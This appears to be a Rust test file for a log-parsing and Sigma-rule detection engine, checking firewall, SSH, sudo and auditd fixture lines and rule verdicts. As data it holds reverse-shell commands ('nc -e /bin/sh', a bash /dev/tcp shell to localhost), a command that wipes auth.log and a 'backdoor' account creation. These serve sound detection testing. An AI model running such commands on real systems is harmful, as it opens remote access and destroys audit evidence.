//! The shipped rules against fixture lines, the parsers against vendor
//! samples, and the engine's verdicts on Sigma's edge cases.

use std::collections::HashSet;

use leitstand_detect::parse::{normalise, Origin};
use leitstand_detect::rules::{RuleSet, SHIPPED};
use leitstand_detect::{syslog, Category, Detector, HitKind, Outcome, SecEvent};

const RECEIVED: i64 = 1_795_500_000_000; // 2026-11-24

fn read(line: &str) -> SecEvent {
    let l = syslog::parse(line.as_bytes(), RECEIVED, 3600);
    normalise(&l, &Origin { received_ms: RECEIVED, host: Some("sender".into()), linux: false })
}

fn fixture(name: &str) -> Vec<SecEvent> {
    let path = format!("{}/tests/fixtures/lines/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(path).expect("fixture").lines().map(read).collect()
}

#[test]
fn filterlog_lines_are_read() {
    let e = fixture("pfsense_filterlog.log");
    assert_eq!(e[0].dataset, "filterlog");
    assert_eq!(e[0].action.as_deref(), Some("block"));
    assert_eq!(e[0].source_ip.as_deref(), Some("198.51.100.23"));
    assert_eq!(e[0].destination_port, Some(22));
    assert_eq!(e[0].transport.as_deref(), Some("tcp"));
    assert_eq!(e[0].interface.as_deref(), Some("igb0"));
    assert_eq!(e[0].host.as_deref(), Some("fw01"));
    assert_eq!(e[1].action.as_deref(), Some("pass"));
    assert_eq!(e[1].destination_port, Some(53));
    assert_eq!(e[2].source_ip.as_deref(), Some("2001:db8::1"));
    assert_eq!(e[2].destination_port, Some(5353));
    assert_eq!(e[3].transport.as_deref(), Some("icmp"));
    assert_eq!(e[3].destination_port, None);
    assert_eq!(e[4].host.as_deref(), Some("opnsense.local"));
    assert_eq!(e[4].destination_port, Some(3389));
    assert!(e.iter().all(|e| e.category == Category::Network && e.logsource.category.as_deref() == Some("firewall")));
}

#[test]
fn netfilter_lines_are_read() {
    let e = fixture("netfilter.log");
    assert_eq!(e[0].dataset, "netfilter");
    assert_eq!(e[0].action.as_deref(), Some("block"));
    assert_eq!(e[0].rule.as_deref(), Some("IPTABLES-DROP"));
    assert_eq!((e[0].source_port, e[0].destination_port), (Some(51234), Some(22)));
    assert_eq!(e[1].action.as_deref(), Some("pass"));
    assert_eq!(e[1].transport.as_deref(), Some("udp"));
    assert_eq!(e[2].action.as_deref(), Some("block"));
    assert_eq!(e[2].source_ip.as_deref(), Some("2001:db8::23"));
}

#[test]
fn fortinet_lines_are_read() {
    let e = fixture("fortinet.log");
    assert!(e.iter().all(|e| e.dataset == "fortinet"), "{e:?}");
    // The device's own time: eventtime (ns), else date and time at its tz.
    assert_eq!(e[0].at_ms, 1_795_508_220_000);
    assert_eq!(jiff::Timestamp::from_millisecond(e[1].at_ms).expect("t").to_string(), "2026-11-18T08:17:01Z");
    assert_eq!(e[0].action.as_deref(), Some("block"));
    assert_eq!(e[0].destination_port, Some(3389));
    assert_eq!(e[0].transport.as_deref(), Some("tcp"));
    assert_eq!(e[0].label("devname"), Some("FGT60F-Office"));
    assert_eq!(e[1].action.as_deref(), Some("pass"));
    assert_eq!(e[2].category, Category::Authentication);
    assert_eq!(e[2].outcome, Some(Outcome::Failure));
    assert_eq!(e[2].user.as_deref(), Some("admin"));
    assert_eq!(e[3].category, Category::IntrusionDetection);
    assert_eq!(e[3].label("attack"), Some("Apache.Log4j.Error.Log.Remote.Code.Execution"));
}

#[test]
fn sophos_lines_are_read() {
    let e = fixture("sophos.log");
    assert!(e.iter().all(|e| e.dataset == "sophos"), "{e:?}");
    assert_eq!(jiff::Timestamp::from_millisecond(e[0].at_ms).expect("t").to_string(), "2026-11-18T08:18:00Z");
    assert_eq!(e[0].action.as_deref(), Some("block"));
    assert_eq!(e[0].destination_port, Some(22));
    assert_eq!(e[1].action.as_deref(), Some("pass"));
    assert_eq!(e[2].category, Category::Authentication);
    assert_eq!(e[2].outcome, Some(Outcome::Failure));
    assert_eq!(e[3].category, Category::IntrusionDetection);
}

#[test]
fn linux_auth_lines_are_read() {
    let e = fixture("linux_auth.log");
    let failed = &e[0];
    assert_eq!((failed.dataset.as_str(), failed.action.as_deref()), ("sshd", Some("ssh_login")));
    assert_eq!(failed.outcome, Some(Outcome::Failure));
    assert_eq!(failed.user.as_deref(), Some("root"));
    assert_eq!((failed.source_ip.as_deref(), failed.source_port), (Some("198.51.100.23"), Some(4242)));
    assert_eq!(failed.host.as_deref(), Some("web1"));
    assert_eq!(e[1].user.as_deref(), Some("oracle"));
    assert_eq!(e[2].action.as_deref(), Some("ssh_invalid_user"));
    assert_eq!(e[3].outcome, Some(Outcome::Success));
    assert_eq!(e[3].user.as_deref(), Some("anna"));
    assert_eq!(e[3].label("method"), Some("publickey"));
    assert_eq!(e[5].action.as_deref(), Some("ssh_max_attempts"));
    assert_eq!(e[6].action.as_deref(), Some("ssh_probe"));
    assert_eq!(e[6].source_ip.as_deref(), Some("198.51.100.24"));
    assert_eq!(e[7].command_line.as_deref(), Some("/usr/bin/apt-get update"));
    assert_eq!(e[7].user.as_deref(), Some("anna"));
    assert_eq!(e[8].action.as_deref(), Some("sudo_denied"));
    assert_eq!(e[8].user.as_deref(), Some("bob"));
    assert_eq!(e[10].command_line.as_deref(), Some("/usr/bin/truncate -s 0 /var/log/auth.log"));
    assert_eq!(e[11].action.as_deref(), Some("user_created"));
    assert_eq!(e[11].user.as_deref(), Some("backdoor"));
    assert_eq!(e[12].label("group"), Some("sudo"));
    assert_eq!(e[14].action.as_deref(), Some("su"));
    assert_eq!(e[15].dataset, "pam");
    assert_eq!(e[15].source_ip.as_deref(), Some("198.51.100.23"));
    // A line no parser knows is kept raw, whole.
    assert_eq!(e[16].dataset, "raw");
    assert!(e[16].message.contains("Session 42"));
}

#[test]
fn auditd_records_keep_their_fields_for_sigma_rules() {
    let e = fixture("auditd.log");
    assert_eq!((e[0].dataset.as_str(), e[0].action.as_deref()), ("auditd", Some("execve")));
    assert_eq!(e[0].command_line.as_deref(), Some("nc -e /bin/sh"));
    assert_eq!(e[0].at_ms, 1_795_508_400_123);
    assert_eq!(e[1].user.as_deref(), Some("root"));
    assert_eq!(e[1].source_ip.as_deref(), Some("198.51.100.23"));
    assert_eq!(e[1].outcome, Some(Outcome::Failure));
    // A rule written for auditd fields as Sigma's Linux auditd rules are.
    let rule = "title: Netcat reverse shell\nid: 6c1d2c52-8f1e-4d3a-9d0b-0c0ffee0dddd\nlogsource:\n  product: linux\n  \
                service: auditd\ndetection:\n  sel:\n    type: EXECVE\n    a0: nc\n    a1: '-e'\n  condition: sel\nlevel: high\n";
    let (d, problems) = Detector::build(&RuleSet::default(), &HashSet::new(), &[("custom".into(), rule.into())]);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(d.matches(&e[0]).len(), 1);
    assert!(d.matches(&e[1]).is_empty());
}

/// A real audit.log (auditd 3.0.9, Debian 12, enriched format), each line
/// as the agent sends it.
#[test]
fn records_of_a_real_audit_log_are_read() {
    let path = format!("{}/tests/fixtures/lines/auditd_debian12.log", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(path).expect("fixture");
    let origin = Origin { received_ms: RECEIVED, host: Some("web1".into()), linux: true };
    let events: Vec<SecEvent> = text
        .split('\n')
        .filter(|l| !l.is_empty())
        .map(|l| {
            normalise(&syslog::SyslogLine { app: Some("auditd".into()), msg: l.into(), ..Default::default() }, &origin)
        })
        .collect();
    assert!(events.iter().all(|e| e.dataset == "auditd" && !e.message.contains('\u{1d}')), "{events:?}");
    let record = |kind: &str, serial: &str| {
        events
            .iter()
            .find(|e| e.label("type") == Some(kind) && e.message.contains(&format!(":{serial}):")))
            .unwrap_or_else(|| panic!("{kind} {serial}"))
    };
    assert_eq!(events[0].at_ms, 1_795_524_917_596, "the record's own time");
    // The enriched names after 0x1D neither spoil `res` nor get lost.
    let added = record("ADD_USER", "8");
    assert_eq!((added.category, added.outcome), (Category::Iam, Some(Outcome::Success)));
    assert_eq!((added.label("op"), added.label("ID")), (Some("adding"), Some("unknown(1001)")));
    assert_eq!(added.user.as_deref(), Some("root"), "no acct, AUID unset: UID names who");
    let failed = record("USER_AUTH", "87");
    assert_eq!((failed.category, failed.outcome), (Category::Authentication, Some(Outcome::Failure)));
    assert_eq!((failed.user.as_deref(), failed.label("UID")), (Some("root"), Some("nobody")));
    assert_eq!(failed.label("terminal"), Some("/dev/pts/0"));
    // Hex-encoded arguments and process titles read as text.
    let shell = record("EXECVE", "67");
    assert_eq!(shell.label("a2"), Some("bash -i >& /dev/tcp/127.0.0.1/9 0>&1"));
    assert_eq!(shell.command_line.as_deref(), Some("bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1"));
    assert_eq!(record("PROCTITLE", "67").command_line, shell.command_line);
    assert_eq!(record("PROCTITLE", "5").command_line.as_deref(), Some("useradd -M leitstand-probe"));
    let syscall = record("SYSCALL", "67");
    assert!(syscall.label("a0").is_some_and(|v| v.bytes().all(|b| b.is_ascii_hexdigit())), "registers stay");
    assert_eq!((syscall.label("SYSCALL"), syscall.label("key")), (Some("execve"), Some("exec")));
    assert_eq!((syscall.process.as_deref(), syscall.outcome), (Some("bash"), Some(Outcome::Success)));
    // A quoted value that looks like hex is text.
    let quoted = normalise(
        &syslog::SyslogLine {
            msg: "type=EXECVE msg=audit(1795524970.000:92): argc=2 a0=\"echo\" a1=\"CAFE\"".into(),
            ..Default::default()
        },
        &origin,
    );
    assert_eq!(quoted.command_line.as_deref(), Some("echo CAFE"));
}

/// Every shipped rule over a whole captured file, in order: the titles
/// of what fired and how often.
fn alerts_over(events: &[SecEvent]) -> std::collections::BTreeMap<String, usize> {
    let (mut d, problems) = Detector::build(&RuleSet::shipped(), &HashSet::new(), &[]);
    assert!(problems.is_empty(), "{problems:?}");
    let mut fired = std::collections::BTreeMap::new();
    for e in events {
        for hit in d.process(e) {
            *fired.entry(hit.title).or_default() += 1;
        }
    }
    fired
}

fn counts(list: &[(&str, usize)]) -> std::collections::BTreeMap<String, usize> {
    list.iter().map(|(t, n)| ((*t).to_owned(), *n)).collect()
}

/// Real kernel lines from iptables `LOG`, ip6tables and nftables `log`
/// rules, forwarded by rsyslog: a blocked SSH attempt, a scan of 24 ports,
/// an IPv6 reject, an allowed NTP query and a dropped ping; and UFW's.
#[test]
fn captured_netfilter_lines_are_read_and_the_scan_is_seen() {
    let e = fixture("netfilter_debian12.log");
    assert_eq!(e.len(), 27);
    assert!(e.iter().all(|e| e.dataset == "netfilter" && e.host.as_deref() == Some("lab-gw")), "{e:?}");
    assert_eq!((e[0].rule.as_deref(), e[0].action.as_deref()), (Some("IPTABLES-DROP"), Some("block")));
    assert_eq!((e[0].source_ip.as_deref(), e[0].destination_port), (Some("198.51.100.23"), Some(22)));
    assert_eq!(e[0].interface.as_deref(), Some("eth0"));
    let rejected: Vec<_> = e.iter().filter(|e| e.rule.as_deref() == Some("FW-REJECT")).collect();
    assert_eq!(rejected.len(), 23);
    assert!(rejected.iter().all(|e| e.action.as_deref() == Some("block") && e.transport.as_deref() == Some("tcp")));
    let v6 = e.iter().find(|e| e.rule.as_deref() == Some("REJECT6")).expect("ip6tables line");
    assert_eq!(
        (v6.source_ip.as_deref(), v6.destination_ip.as_deref()),
        (Some("2001:db8:1::23"), Some("2001:db8:2::20"))
    );
    let ntp = e.iter().find(|e| e.rule.as_deref() == Some("nft-accept")).expect("nftables line");
    assert_eq!(
        (ntp.action.as_deref(), ntp.transport.as_deref(), ntp.destination_port),
        (Some("pass"), Some("udp"), Some(123))
    );
    let ping = e.iter().find(|e| e.rule.as_deref() == Some("nft-drop")).expect("nftables drop");
    assert_eq!((ping.transport.as_deref(), ping.destination_port), (Some("icmp"), None));
    assert_eq!(alerts_over(&e), counts(&[("Port scan seen by the firewall", 1)]));

    // UFW (Debian's and Ubuntu's front end) puts its prefix in brackets.
    let ufw = fixture("ufw_debian12.log");
    assert_eq!(ufw.len(), 7);
    assert!(ufw.iter().all(|e| e.dataset == "netfilter" && e.action.as_deref() == Some("block")), "{ufw:?}");
    assert_eq!((ufw[0].rule.as_deref(), ufw[0].destination_port), (Some("UFW BLOCK"), Some(23)));
    assert_eq!((ufw[3].transport.as_deref(), ufw[3].destination_port), (Some("udp"), Some(161)));
    assert_eq!((ufw[4].rule.as_deref(), ufw[4].destination_port), (Some("UFW LIMIT BLOCK"), Some(2222)));
}

/// Real auth lines (OpenSSH 9.2, sudo 1.9.13, shadow-utils 4.13, PAM)
/// forwarded by rsyslog while a lab attacker tried passwords, probed the
/// port and local users misused sudo and su.
#[test]
fn captured_auth_lines_are_read_and_fire_the_rules() {
    let e = fixture("linux_auth_debian12.log");
    let first = |action: &str| e.iter().find(|e| e.action.as_deref() == Some(action)).expect(action);
    let failed = first("ssh_login");
    assert_eq!((failed.user.as_deref(), failed.outcome), (Some("root"), Some(Outcome::Failure)));
    assert_eq!((failed.source_ip.as_deref(), failed.source_port), (Some("198.51.100.23"), Some(33020)));
    let sprayed: HashSet<&str> = e
        .iter()
        .filter(|e| e.action.as_deref() == Some("ssh_login") && e.outcome == Some(Outcome::Failure))
        .filter_map(|e| e.user.as_deref())
        .collect();
    assert_eq!(sprayed, HashSet::from(["root", "oracle", "admin", "test", "postgres", "ubuntu", "lsbob"]));
    // OpenSSH 9 no longer says "Did not receive identification string".
    let probes: Vec<_> = e.iter().filter(|e| e.action.as_deref() == Some("ssh_probe")).collect();
    assert_eq!(probes.len(), 2, "{probes:?}");
    assert!(probes.iter().all(|p| p.source_ip.as_deref() == Some("198.51.100.23")));
    let sudo = first("sudo");
    assert_eq!(
        (sudo.user.as_deref(), sudo.command_line.as_deref()),
        (Some("lsanna"), Some("/usr/bin/apt-get --version"))
    );
    assert_eq!(first("sudo_denied").user.as_deref(), Some("lsbob"));
    assert_eq!(first("user_created").user.as_deref(), Some("lsanna"));
    assert_eq!(first("user_deleted").user.as_deref(), Some("lsbob"));
    assert_eq!(
        alerts_over(&e),
        counts(&[
            ("Local user account created", 2),
            ("Password spraying from one address", 1),
            ("Repeated wrong sudo password", 1),
            ("SSH brute force from one address", 1),
            ("SSH maximum authentication attempts exceeded", 1),
            ("SSH protocol probe", 2),
            ("User added to an administrators group", 2),
            ("User not allowed to use sudo", 1),
            ("su to another user failed", 1),
        ])
    );
}

#[derive(serde::Deserialize)]
struct Cases {
    case: Vec<Case>,
}

#[derive(serde::Deserialize)]
struct Case {
    rule: String,
    #[serde(rename = "match")]
    matching: Vec<String>,
    no_match: Vec<String>,
    #[serde(default)]
    repeat: Option<u32>,
}

fn expand(lines: &[String], repeat: Option<u32>) -> Vec<String> {
    let Some(n) = repeat else { return lines.to_vec() };
    (0..n)
        .flat_map(|i| lines.iter().map(move |l| l.replace("{nn}", &format!("{i:02}")).replace("{n}", &i.to_string())))
        .collect()
}

fn fires(detector: &mut Detector, rule: &str, lines: &[String], correlation: bool) -> bool {
    let mut fired = false;
    for line in lines {
        let e = read(line);
        let hits = if correlation { detector.process(&e) } else { detector.matches(&e) };
        fired |= hits.iter().any(|h| h.rule_id == rule);
    }
    fired
}

#[test]
fn every_shipped_rule_fires_on_its_fixtures_and_not_on_the_others() {
    let text = std::fs::read_to_string(format!("{}/tests/fixtures/rule_cases.toml", env!("CARGO_MANIFEST_DIR")))
        .expect("cases");
    let cases: Cases = toml::from_str(&text).expect("cases parse");
    let set = RuleSet::shipped();
    let covered: HashSet<&str> = cases.case.iter().map(|c| c.rule.as_str()).collect();
    for rule in set.summaries() {
        assert!(covered.contains(rule.id.as_str()), "rule {} ({}) has no fixture case", rule.id, rule.title);
    }
    for case in &cases.case {
        let summary = set.summaries().iter().find(|s| s.id == case.rule).expect("case names a shipped rule");
        for (lines, want) in [(&case.matching, true), (&case.no_match, false)] {
            let lines = expand(lines, case.repeat);
            if summary.correlation {
                let (mut d, _) = Detector::build(&set, &HashSet::new(), &[]);
                assert_eq!(fires(&mut d, &case.rule, &lines, true), want, "{}: {lines:?}", summary.title);
            } else {
                for line in &lines {
                    let (mut d, _) = Detector::build(&set, &HashSet::new(), &[]);
                    let got = fires(&mut d, &case.rule, std::slice::from_ref(line), false);
                    assert_eq!(got, want, "{}: {line}", summary.title);
                }
            }
        }
    }
    assert_eq!(SHIPPED.len(), set.len());
}

#[test]
fn correlation_hits_name_the_group_and_count() {
    let (mut d, problems) = Detector::build(&RuleSet::shipped(), &HashSet::new(), &[]);
    assert!(problems.is_empty(), "{problems:?}");
    let mut hits = Vec::new();
    for i in 0..10 {
        let line = format!(
            "<38>Nov 18 09:20:{i:02} web1 sshd[812]: Failed password for root from 198.51.100.23 port 42{i:02} ssh2"
        );
        hits.extend(d.process(&read(&line)));
    }
    let brute: Vec<_> = hits.iter().filter(|h| h.title == "SSH brute force from one address").collect();
    assert_eq!(brute.len(), 1, "{hits:?}");
    assert_eq!(brute[0].group, "source.ip=198.51.100.23");
    assert_eq!(brute[0].kind, HitKind::Correlation { count: 10, window_secs: 300 });
    assert_eq!(brute[0].severity, leitstand_domain::alert::Severity::High);
    // The counted rule does not alert by itself.
    assert!(hits.iter().all(|h| h.title != "SSH login failed"), "{hits:?}");
}

#[test]
fn rules_a_tenant_switched_off_do_not_fire_and_custom_rules_do() {
    let set = RuleSet::shipped();
    let off: HashSet<String> = ["a343a22d-9ce1-4227-8390-48b0c9e0abe7".to_string()].into();
    let custom = "title: Backup user logged in\nid: 6c1d2c52-8f1e-4d3a-9d0b-0c0ffee00001\nlogsource:\n  product: linux\n\
                  detection:\n  sel:\n    user.name: backup\n    event.outcome: success\n  condition: sel\nlevel: critical\n";
    let (mut d, problems) = Detector::build(&set, &off, &[("custom:1".into(), custom.into())]);
    assert!(problems.is_empty(), "{problems:?}");
    let root = read("<38>Nov 18 09:19:04 web1 sshd[816]: Accepted password for root from 198.51.100.23 port 4250 ssh2");
    assert!(d.process(&root).is_empty());
    let backup =
        read("<38>Nov 18 09:19:04 web1 sshd[816]: Accepted password for backup from 198.51.100.23 port 4250 ssh2");
    let hits = d.process(&backup);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].severity, leitstand_domain::alert::Severity::Critical);
    assert_eq!(d.rule_count(), set.len());
}

/// One rule, one event (as JSON-ish fields on a raw event), one verdict.
fn verdict(detection: &str, event: SecEvent) -> bool {
    let text = format!(
        "title: edge\nid: 6c1d2c52-8f1e-4d3a-9d0b-0c0ffee0e0e0\nlogsource:\n  product: linux\ndetection:\n{detection}\nlevel: low\n"
    );
    let mut set = RuleSet::default();
    set.add_text("edge", &text);
    assert!(set.problems().is_empty(), "{:?}", set.problems());
    let (d, _) = Detector::build(&set, &HashSet::new(), &[]);
    !d.matches(&event).is_empty()
}

fn ev(message: &str, user: Option<&str>) -> SecEvent {
    SecEvent {
        message: message.into(),
        user: user.map(str::to_string),
        logsource: leitstand_detect::LogSource { product: Some("linux".into()), ..Default::default() },
        ..SecEvent::default()
    }
}

#[test]
fn sigma_edge_cases_follow_the_specification() {
    let table: &[(&str, &str, Option<&str>, bool)] = &[
        // Plain values match the whole field, case-insensitively.
        ("  sel:\n    user.name: Root\n  condition: sel", "", Some("root"), true),
        ("  sel:\n    user.name: roo\n  condition: sel", "", Some("root"), false),
        // `*` and `?` are wildcards; `\*` is a literal star.
        ("  sel:\n    user.name: 'ad*n'\n  condition: sel", "", Some("administrator_admin"), true),
        ("  sel:\n    user.name: 'r?ot'\n  condition: sel", "", Some("ROOT"), true),
        ("  sel:\n    user.name: 'a\\*b'\n  condition: sel", "", Some("a*b"), true),
        ("  sel:\n    user.name: 'a\\*b'\n  condition: sel", "", Some("axxb"), false),
        // A list is any of its values; `|all` needs every one.
        ("  sel:\n    user.name:\n      - bob\n      - root\n  condition: sel", "", Some("root"), true),
        ("  sel:\n    message|contains|all:\n      - foo\n      - bar\n  condition: sel", "foo baz", None, false),
        ("  sel:\n    message|contains|all:\n      - foo\n      - bar\n  condition: sel", "bar foo", None, true),
        // null matches an absent field; a value never does.
        ("  sel:\n    user.name: null\n  condition: sel", "", None, true),
        ("  sel:\n    user.name: null\n  condition: sel", "", Some("x"), false),
        ("  sel:\n    user.name: root\n  condition: sel", "", None, false),
        // `|cased` makes it case-sensitive.
        ("  sel:\n    user.name|cased: Root\n  condition: sel", "", Some("root"), false),
        // Keywords search the message; `not` inverts.
        ("  keywords:\n    - 'session opened'\n  condition: keywords", "pam: Session Opened for x", None, true),
        ("  sel:\n    user.name: root\n  condition: not sel", "", Some("anna"), true),
        // Regular expressions are not anchored unless written so.
        ("  sel:\n    message|re: 'port [0-9]{4}$'\n  condition: sel", "from x port 4242", None, true),
        ("  sel:\n    message|re: '^port'\n  condition: sel", "from x port 4242", None, false),
        // `1 of sel*` over several selections.
        ("  sel_a:\n    user.name: a\n  sel_b:\n    user.name: b\n  condition: 1 of sel_*", "", Some("b"), true),
        // `|exists`.
        ("  sel:\n    source.ip|exists: true\n  condition: sel", "", None, false),
    ];
    for (detection, message, user, want) in table {
        assert_eq!(verdict(detection, ev(message, *user)), *want, "{detection} on message={message:?} user={user:?}");
    }
}

#[test]
fn rules_of_other_log_sources_are_not_tried() {
    // A linux keyword rule does not fire on a firewall line that holds the words.
    let set = RuleSet::shipped();
    let (d, _) = Detector::build(&set, &HashSet::new(), &[]);
    let fw = read("<134>Nov 18 09:15:02 fw01 filterlog[4412]: 5,,,NOT in sudoers,igb0,match,block,in,4,0x0,,51,31337,0,DF,6,tcp,60,198.51.100.23,192.0.2.10,51234,22,0,S,1,,64240,,");
    assert!(d.matches(&fw).iter().all(|h| h.title != "User not allowed to use sudo"));
}
